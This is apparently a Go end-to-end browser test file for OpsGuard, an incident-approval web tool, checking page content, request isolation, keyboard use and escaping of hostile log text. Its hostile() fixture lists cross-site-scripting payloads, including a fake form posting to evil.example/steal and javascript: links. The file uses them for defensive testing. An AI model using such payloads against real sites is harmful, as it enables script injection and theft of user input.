package e2e

import (
	"strings"
	"testing"

	"github.com/opsguard/opsguard/infra/e2e/browser"
)

// looks are all that a page is looked at in. Our page needs no script.
func looks() []browser.Look {
	return []browser.Look{{Size: browser.Phone}, {Size: browser.Phone, Dark: true}, {Size: browser.Desktop}, {Size: browser.Desktop, Dark: true}, {Size: browser.Phone, NoScript: true}}
}

func TestAPersonSeesWhatTheyDecideOn(t *testing.T) {
	t.Parallel()
	a := newAsked(t, freeAddr(t), "")
	fixID, fix := a.links(oom)
	reviewID, review := a.links(alert{Service: "prod-mail-07", ErrorLogs: "queue is stuck"})
	common := []string{"What happened", "Why we think so", "Evidence Untrusted text, as logged", "OpsGuard asks through discord: ", "You can decide until ", "Severity high"}
	plan := []string{fixID, "Restart prod-api-01 Fix restart-service On prod-api-01 (simulated) With no parameters Risk medium Effect simulated: nothing will be changed", "JavaScript heap out of memory"}
	for _, page := range []struct {
		name, link string
		says       []string
	}{
		{"approve", fix["approve"], append(plan, "Approve this fix?", "Exactly what would run", "Exactly the fix shown above will run, once.")},
		{"escalate", fix["escalate"], append(plan, "Escalate this incident?", "Proposed fix, which this does not run", "A ticket will be opened. No fix will run.")},
		{"review", review["resolve"], []string{reviewID, "Close this incident as resolved?", "prod-mail-07", "queue is stuck", "None is proposed.", "is not listed in services.yaml", "No fix will run."}},
	} {
		for _, look := range looks() {
			tb := openTab(t, a.browser, look, page.link)
			tb.says("the page "+page.name, append(common, page.says...)...)
			tb.looksRight(page.name)
			if asked := tb.Requests(); len(asked) != 1 || asked[0] != "GET "+page.link {
				t.Errorf("%s asks for %q; want its own address only", page.name, asked)
			}
			if !tb.asks() {
				t.Errorf("%s has no button", page.name)
			}
			tb.must(tb.Close())
		}
	}
	if got := a.incident(fixID); got.get("decision") != nil {
		t.Errorf("looking decided: %s", got)
	}
}

// hostile is what somebody who can write to a log would put there.
func hostile() []string {
	return []string{
		`"'><script>alert(1);document.title="owned"</script></title></style></textarea></main>`,
		`<img src=http://127.0.0.1:1/x onerror=alert(2)><svg onload=alert(3)><iframe src=//evil.example></iframe>`,
		`"><form action=//evil.example/steal><input name=t><button>Approve and run the fix</button></form>`,
		`@everyone <@1> [Approve](javascript:alert(4)) <a href="javascript:alert(5)">https://evil.example/approve</a> 🔥🚒 👩‍💻`,
		"\u202e\u2066ערך שלילי مرحبا بالعالم ﷽ Z̷̢̛a̶l̴g̵o̷ {{.Form}} <!-- <style>*{display:none}</style>",
	}
}

// TestHostileTextIsOnlyText sends attacks in the log, in the service's name and in
// a note, and has the model repeat them.
func TestHostileTextIsOnlyText(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("W", 4000)
	var plain, longs []string // evidence is of different shapes, as the hostile lines are
	for _, word := range []string{"plain", "simple", "usual", "common", "quiet"} {
		plain, longs = append(plain, word+" line"), append(longs, word+" "+long)
	}
	for _, look := range []browser.Look{{Size: browser.Phone}, {Size: browser.Desktop, Dark: true}} {
		var want []string
		for _, text := range []struct {
			name, server, cause string
			lines               []string
		}{
			{"harmless", "prod-mail-07", "A cause.", plain},
			{"hostile", hostile()[0], strings.Join(hostile(), " "), hostile()},
			{"long", strings.Repeat("W", 128), long, longs},
		} {
			t.Run(text.name+" on a "+look.Size.Name, func(t *testing.T) {
				a := newAsked(t, freeAddr(t), "", "GEMINI_API_KEY=k", "GEMINI_ENDPOINT="+gemini(t, says(suggestion(text.cause))))
				_, links := a.links(alert{Service: "prod-api-01", ErrorLogs: strings.Join(text.lines, "\n")})
				id, unlisted := a.links(alert{Service: text.server, ErrorLogs: strings.Join(text.lines, "\n")})
				var got []string
				outline := func(tb tab, picture string) {
					t.Helper()
					tb.looksRight(text.name + "-" + picture)
					o, err := tb.Outline()
					tb.must(err)
					got = append(got, o...)
				}
				approve := openTab(t, a.browser, look, links["approve"])
				approve.says("the page", text.cause[:8])
				outline(approve, "approve")
				tb := openTab(t, a.browser, look, unlisted["resolve"])
				outline(tb, "unlisted")
				tb.must(tb.Click("textarea", 1))
				tb.must(tb.Type(text.lines[0]))
				tb.press(1)
				a.until(id, "RESOLVED")
				tb.must(tb.Reload())
				tb.says("the note", text.lines[0][:8])
				outline(tb, "decided")
				if text.name == "harmless" {
					want = got
				} else if a, b := strings.Join(got, "\n"), strings.Join(want, "\n"); a != b {
					t.Errorf("the pages' elements:\n%s\nwith harmless text:\n%s", a, b)
				}
			})
		}
	}
}

func TestThePageIsUsedByKeyboard(t *testing.T) {
	t.Parallel()
	a := newAsked(t, freeAddr(t), "")
	id, links := a.links(oom)
	for _, look := range []browser.Look{{Size: browser.Desktop}, {Size: browser.Desktop, Dark: true}, {Size: browser.Phone}, {Size: browser.Phone, Dark: true}} {
		tb := openTab(t, a.browser, look, links["approve"])
		for _, want := range []string{"note", "approve"} {
			tb.must(tb.Press("Tab"))
			at, err := tb.Focused()
			tb.must(err)
			if at != want {
				t.Errorf("Tab leads to %q; want %q", at, want)
			}
			tb.looksRight("focus-" + want)
		}
		tb.must(tb.Close())
	}
	tb := openTab(t, a.browser, browser.Look{Size: browser.Desktop}, links["approve"])
	tb.must(tb.Press("Tab"))
	tb.must(tb.Type("seen it"))
	tb.must(tb.Press("Enter"))
	tb.must(tb.Type("twice"))
	if at, err := tb.Focused(); err != nil || at != "note" || len(tb.Requests()) != 1 {
		t.Fatalf("Enter in the note: the focus is at %q, it asked for %q, %v; want nothing sent", at, tb.Requests(), err)
	}
	tb.must(tb.Press("Tab"))
	tb.must(tb.Loading(func() error { return tb.Press("Enter") }))
	tb.says("the page", "Approved", "Note seen it twice")
	a.until(id, "RESOLVED")
	a.decidedOnce(id, "approve", "link:discord")
}
